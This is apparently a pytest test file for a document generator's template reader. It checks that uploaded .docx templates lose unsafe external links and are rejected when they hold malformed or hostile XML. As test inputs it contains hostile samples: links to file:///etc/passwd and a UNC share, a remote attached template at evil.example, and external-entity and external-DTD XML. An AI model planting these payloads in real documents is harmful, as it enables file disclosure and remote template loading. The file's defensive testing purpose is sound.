"""generator.template_file: a template's zip checked, and cut off from the outside, before any parser."""

from __future__ import annotations

import io
import zipfile

import pytest
from lxml import etree

from generator.pipeline import DEFAULT_TEMPLATE
from generator.template_file import MAX_DEPTH, TemplateFileError, read_template
from tests.template_factory import before_section, template_bytes

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _with_links(*rels: tuple[str, str, str]) -> bytes:
    """The bundled template with external relationships (id, type, target) and a paragraph using them."""
    base = _parts(template_bytes())
    rels_xml = base["word/_rels/document.xml.rels"].decode()
    body = ""
    for rid, kind, target in rels:
        rels_xml = rels_xml.replace(
            "</Relationships>",
            f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'
            "</Relationships>",
        )
        body += f'<w:hyperlink r:id="{rid}"><w:r><w:t>teks {rid}</w:t></w:r></w:hyperlink>'
    return template_bytes(
        parts={
            "word/_rels/document.xml.rels": rels_xml.encode(),
            "word/document.xml": before_section(f"<w:p>{body}</w:p>").encode(),
        }
    )


def test_the_bundled_template_passes_unchanged():
    checked = read_template(DEFAULT_TEMPLATE, "keputusan.docx")
    assert checked.data == DEFAULT_TEMPLATE.read_bytes()
    assert checked.removed == () and checked.links == ()


def test_links_in_the_text_stay_and_other_schemes_go_with_their_references():
    data = _with_links(
        ("rIdWeb", "hyperlink", "https://rembangkab.go.id/"),
        ("rIdMail", "hyperlink", "mailto:kecamatan@rembangkab.go.id"),
        ("rIdFile", "hyperlink", "file:///etc/passwd"),
        ("rIdUnc", "hyperlink", "\\\\server\\share\\x.docx"),
    )
    checked = read_template(data, "kop.docx")
    assert checked.links == ("https://rembangkab.go.id/", "mailto:kecamatan@rembangkab.go.id")
    assert len(checked.removed) == 2
    assert all(s.startswith("Templat kop.docx: tautan ke «") for s in checked.removed)
    parts = _parts(checked.data)
    rels = parts["word/_rels/document.xml.rels"].decode()
    assert "rIdWeb" in rels and "rIdMail" in rels and "rIdFile" not in rels and "rIdUnc" not in rels
    document = etree.fromstring(parts["word/document.xml"])
    links = document.findall(f".//{{{W}}}hyperlink")
    assert [link.get(f"{{{R}}}id") for link in links] == ["rIdWeb", "rIdMail", None, None]
    assert "teks rIdFile" in parts["word/document.xml"].decode()  # the text stays, the link goes
    assert set(parts) == set(_parts(data))  # nothing else added or lost


def test_a_remote_attached_template_is_removed_from_settings():
    base = _parts(template_bytes())
    settings = (
        base["word/settings.xml"].decode().replace("<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom', 1)
    )
    assert "attachedTemplate" in settings
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    checked = read_template(
        template_bytes(
            parts={"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": rels.encode()}
        ),
        "kop.docx",
    )
    assert "templat terlampir (attachedTemplate) ke «https://evil.example/t.dotm»" in checked.removed[0]
    parts = _parts(checked.data)
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"evil.example" not in parts["word/_rels/settings.xml.rels"]


@pytest.mark.parametrize(
    ("part", "content", "message"),
    [
        ("word/styles.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', "bom XML"),
        ("word/styles.xml", b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', "bom XML"),
        ("word/numbering.xml", b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1), "bersarang lebih dari"),
        ("word/footer1.xml", b"<w:ftr><w:p>", "bukan XML yang utuh"),
        ("word/_rels/document.xml.rels", b"\x00\x01", "bukan XML yang utuh"),
    ],
)
def test_xml_parts_are_checked_before_any_parser(part, content, message):
    with pytest.raises(TemplateFileError, match=message) as caught:
        read_template(template_bytes(parts={part: content}), "kop.docx")
    assert part in str(caught.value) and str(caught.value).startswith("Templat kop.docx")


def test_an_entry_that_cannot_be_unpacked_is_one_sentence():
    data = bytearray(template_bytes())
    offset = data.index(b"word/document.xml") + 40  # inside the compressed data of the first copy
    data[offset : offset + 64] = b"\xff" * 64
    with pytest.raises(TemplateFileError, match="rusak"):
        read_template(bytes(data), "kop.docx")
